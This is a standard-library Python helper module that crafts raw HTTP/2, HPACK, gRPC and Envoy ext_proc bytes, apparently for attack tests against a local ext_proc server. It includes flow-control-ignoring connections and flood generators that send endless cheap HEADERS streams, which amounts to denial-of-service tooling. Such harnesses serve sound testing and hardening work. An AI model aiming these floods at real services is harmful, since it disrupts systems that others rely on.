"""HTTP/2, gRPC and ext_proc by hand: whatever bytes an attack needs. Standard library only."""

import contextlib
import os
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "support"))
from protobuf_bytes import put  # noqa: E402

PROCESS = b"/envoy.service.ext_proc.v3.ExternalProcessor/Process"
CHECK = b"/grpc.health.v1.Health/Check"
WATCH = b"/grpc.health.v1.Health/Watch"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, _, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
NO_ERROR, CANCEL = 0, 8
NONE, STREAMED, BUFFERED, BUFFERED_PARTIAL, FULL_DUPLEX = range(5)


# ---- HTTP/2.

def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def _integer(value, prefix):
    limit = (1 << prefix) - 1
    if value < limit:
        return bytes((value,))
    out, value = bytearray((limit,)), value - limit
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    out.append(value)
    return bytes(out)


def field(name, value):
    """Literal, never indexed, no Huffman."""
    return b"\x10" + _integer(len(name), 7) + name + _integer(len(value), 7) + value


def head(path, *more):
    fields = ((b":method", b"POST"), (b":scheme", b"http"), (b":authority", b"x"), (b":path", path),
              (b"content-type", b"application/grpc"), (b"te", b"trailers"), *more)
    return b"".join(field(name, value) for name, value in fields)


def settings(**values):
    numbers = {"window": 4, "streams": 3, "frame": 5, "table": 1}
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", numbers[k], v) for k, v in values.items()))


def grpc(message):
    return b"\0" + struct.pack(">I", len(message)) + message


def data(stream, payload, end=False):
    """In frames of 16 KB, as many as it takes."""
    pieces = [payload[i:i + 16384] for i in range(0, len(payload), 16384)] or [b""]
    return b"".join(frame(DATA, 1 if end and i == len(pieces) - 1 else 0, stream, piece) for i, piece in enumerate(pieces))


class Closed(Exception):
    """The other side ended the connection."""


class Connection:
    """A client's connection whose settings and windows are what the attack wants. `flow=False`: windows of the other side are
    not heeded, which it may take as an error. `at`: a socket that is connected already."""

    def __init__(self, port, window=(1 << 31) - 1, ack=True, receive_buffer=None, timeout=20, at=None):
        self.socket = at or socket.socket()
        if receive_buffer:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        self.socket.settimeout(timeout)
        self.ack = ack
        self.buffer = b""
        self.room = 65535  # of the connection, as the other side gives it
        self.initial = 65535
        self.rooms = {}  # of streams
        self.next = 1
        try:
            if at is None:
                self.socket.connect(("127.0.0.1", port))
            self.socket.sendall(PREFACE + settings(window=window) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 30))))
        except OSError as error:
            self.socket.close()
            raise Closed(error) from None

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.close()

    def close(self):
        self.socket.close()

    def send(self, data_bytes):
        try:
            self.socket.sendall(data_bytes)
        except OSError as error:
            raise Closed(error) from None

    def open(self, path=PROCESS, *more, end=False):
        """A new stream with these headers; its number."""
        stream, self.next = self.next, self.next + 2
        self.rooms[stream] = self.initial
        block = head(path, *more)
        pieces = [block[i:i + 16384] for i in range(0, len(block), 16384)]
        out = frame(HEADERS, (1 if end else 0) | (4 if len(pieces) == 1 else 0), stream, pieces[0])
        for i, piece in enumerate(pieces[1:], 2):
            out += frame(CONTINUATION, 4 if i == len(pieces) else 0, stream, piece)
        self.send(out)
        return stream

    def read(self):
        """The next frame (kind, flags, stream, payload); pings, settings and windows are dealt with on the way."""
        while True:
            while len(self.buffer) < 9 or len(self.buffer) < 9 + int.from_bytes(self.buffer[:3], "big"):
                try:
                    more = self.socket.recv(1 << 16)
                except TimeoutError:
                    raise
                except OSError as error:
                    raise Closed(error) from None
                if not more:
                    raise Closed("end of the connection")
                self.buffer += more
            size = int.from_bytes(self.buffer[:3], "big")
            kind, flags = self.buffer[3], self.buffer[4]
            stream = int.from_bytes(self.buffer[5:9], "big") & 0x7fffffff
            payload, self.buffer = self.buffer[9:9 + size], self.buffer[9 + size:]
            if kind == SETTINGS and not flags & 1:
                for i in range(0, len(payload), 6):
                    number, value = struct.unpack(">HI", payload[i:i + 6])
                    if number == 4:
                        for s in self.rooms:
                            self.rooms[s] += value - self.initial
                        self.initial = value
                if self.ack:
                    self.send(frame(SETTINGS, 1, 0))
            elif kind == PING and not flags & 1:
                self.send(frame(PING, 1, 0, payload))
            elif kind == WINDOW_UPDATE:
                gain = int.from_bytes(payload, "big")
                if stream == 0:
                    self.room += gain
                elif stream in self.rooms:
                    self.rooms[stream] += gain
            elif kind == DATA and payload:  # what was read may come again
                self.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", len(payload))))
            return kind, flags, stream, payload

    def write(self, stream, payload, end=False):
        """As DATA, heeding windows; what comes meanwhile is read, and returned."""
        got, at = [], 0
        while at < len(payload) or (end and not payload):
            room = min(self.room, self.rooms.get(stream, 0), 1 << 20, len(payload) - at)
            if room <= 0 and payload:
                got.append(self.read())
                if got[-1][0] == RST_STREAM and got[-1][2] == stream:
                    return got
                continue
            piece = payload[at:at + room]
            at += len(piece)
            self.send(data(stream, piece, end and at == len(payload)))
            self.room -= len(piece)
            self.rooms[stream] -= len(piece)
            if not payload:
                break
        return got


# ---- Protobuf and ext_proc.

def request_headers(headers=(), end=False, mode=FULL_DUPLEX, response=None, path=b"/v1/completions", hints=None):
    base = ((b":method", b"GET" if end else b"POST"), (b":path", path), *headers)
    listed = b"".join(put(1, put(1, name) + put(3, value)) for name, value in base)
    out = put(2, put(1, listed) + (put(3, 1) if end else b""))
    out += put(11, put(1, mode) + put(2, FULL_DUPLEX if response is None else response))
    if hints is not None:
        values = b"".join(put(1, put(3, hint)) for hint in hints)
        entry = put(1, b"x-gateway-destination-endpoint-subset") + put(2, put(6, values))
        out += put(8, put(1, put(1, b"envoy.lb.subset_hint") + put(2, put(1, entry))))
    return out


def request_body(body, end=True):
    return put(4, put(1, body) + (put(2, 1) if end else b""))


def response_headers(*headers):
    listed = b"".join(put(1, put(1, name) + put(3, value)) for name, value in ((b":status", b"200"), *headers))
    return put(3, put(1, listed))


def response_body(body, end=False):
    return put(5, put(1, body) + (put(2, 1) if end else b""))


def completion(model=b"llama", prompt=b"hello"):
    return b'{"model":"' + model + b'","prompt":"' + prompt + b'"}'


def exchange(connection, path=PROCESS, messages=(request_headers(end=True),), more=()):
    """One call with these messages; the first bytes of its answer. Closed, when the call gets none."""
    stream = connection.open(path, *more)
    for message in messages:
        connection.write(stream, grpc(message))
    while True:
        kind, flags, of, payload = connection.read()
        if of == stream and kind == DATA and payload:
            connection.send(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
            connection.rooms.pop(stream, None)
            return payload
        if (of == stream and (kind == RST_STREAM or (kind == HEADERS and flags & 1))) or kind == GOAWAY:
            raise Closed(f"frame {kind}: {payload!r}")


# ---- Floods.

def flood(port, pieces, seconds=3.0, ack=True, window=(1 << 31) - 1, first=b""):
    """Sends `pieces`, an iterable of bytes, until they end, the time is over or the other side closes; what it sends is not read.
    Returns how many bytes went."""
    sent, end = 0, time.monotonic() + seconds
    with contextlib.suppress(Closed):
        with Connection(port, ack=ack, window=window, receive_buffer=4096, timeout=seconds) as connection:
            connection.send(frame(SETTINGS, 1, 0) + first if ack else first)
            for piece in pieces:
                connection.send(piece)
                sent += len(piece)
                if time.monotonic() > end:
                    break
    return sent


def streams(block, first=1, count=1 << 30, flags=4, batch=2000):
    """HEADERS frames for ever new streams."""
    size = struct.pack(">I", len(block))[1:] + bytes((HEADERS, flags))
    for at in range(first, first + 2 * count, 2 * batch):
        yield b"".join(size + struct.pack(">I", stream) + block for stream in range(at, at + 2 * batch, 2))


# After the first request the table has its path: five bytes a request.
INDEXED = (b"\x83\x86\x44" + bytes((len(PROCESS),)) + PROCESS + b"\x41\x01x" +  # :method POST, :scheme http, :path, :authority
           b"\x5f\x10application/grpc" + b"\x40\x02te\x08trailers")
AGAIN = b"\x83\x86\xc1\xc0\xbf\xbe"
